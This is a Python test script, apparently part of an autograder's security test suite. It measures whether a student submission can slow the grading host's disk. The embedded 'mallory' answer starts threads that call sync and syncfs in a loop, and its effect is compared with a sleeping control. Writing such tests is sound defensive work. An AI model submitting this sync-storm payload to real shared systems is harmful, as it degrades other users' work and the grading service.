"""a07: sync()/syncfs() are not filtered: a kernel that calls them in a loop makes the host's ext4 (the disk of the
course folder, the gradebook and the venv) commit its journal and write back every dirty page, over and over,
at little CPU cost of its own. Host side: a writer dirtying 20 MB/s (someone's work on the grading machine) and a
sqlite commit loop (what the gradebook does), timed; compared with the same class where mallory sleeps instead."""
import sys, threading, statistics, sqlite3, os, time; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
MODE = sys.argv[1] if len(sys.argv) > 1 else "sync"
THREADS = int(sys.argv[2]) if len(sys.argv) > 2 else 8
WORKERS = sys.argv[3] if len(sys.argv) > 3 else "1"
DUR = 45
ATTACK = f'''q1 = "b"
import os, threading, time
def _storm():
    fd = os.open("/usr/bin/env", os.O_RDONLY)
    end = time.time() + {DUR}
    while time.time() < end:
        os.sync(); os.syncfs(fd) if hasattr(os, "syncfs") else None
_ts = [threading.Thread(target=_storm) for _ in range({THREADS})]
[t.start() for t in _ts]; [t.join() for t in _ts]
print("storm done")
'''
SLEEP = f'q1 = "b"\nimport time\ntime.sleep({DUR})\n'
lat, stop = [], [False]
def committer():
    db = sqlite3.connect("tests/attacks/round41/a07_probe.db"); db.execute("create table if not exists t(x)")
    while not stop[0]:
        t = time.time(); db.execute("insert into t values (1)"); db.commit(); lat.append((t, time.time() - t)); time.sleep(0.02)
def writer():
    with open("tests/attacks/round41/a07_dirty.bin", "wb") as fh:
        while not stop[0]:
            fh.seek(0); 
            for _ in range(20): fh.write(os.urandom(1 << 20)); time.sleep(0.05)
ths = [threading.Thread(target=committer), threading.Thread(target=writer)]
[t.start() for t in ths]
d = make_course("a07" + MODE)
hand_in(d, "aaron", notebook())
hand_in(d, "mallory", notebook(overrides={"quiz_q1": ATTACK if MODE == "sync" else SLEEP}))
hand_in(d, "zoe", notebook())
t0 = time.time()
grade(d, extra=("--workers", WORKERS)) if WORKERS != "1" else grade(d)
stop[0] = True; [t.join() for t in ths]
scores(d)
rep = json.load(open(f"{d}/grading_report.json"))
# mallory's window: after aaron's seconds from the start, for mallory's seconds (approximate, sequential)
a = next(r for r in rep if r["student"] == "aaron")["seconds"]; m = next(r for r in rep if r["student"] == "mallory")["seconds"]
win = [l for t, l in lat if t0 + a + 3 < t < t0 + a + m - 2]
out = [l for t, l in lat if not (t0 + a < t < t0 + a + m)]
def s(x): 
    x = sorted(x); return f"n={len(x)} median={1000*statistics.median(x):.1f}ms p90={1000*x[int(.9*len(x))]:.1f}ms max={1000*x[-1]:.1f}ms" if x else "none"
print(MODE, "host sqlite commits during mallory:", s(win))
print(MODE, "host sqlite commits outside mallory:", s(out))
print(MODE, "seconds:", {r["student"]: round(r["seconds"], 1) for r in rep})
os.unlink("tests/attacks/round41/a07_dirty.bin")
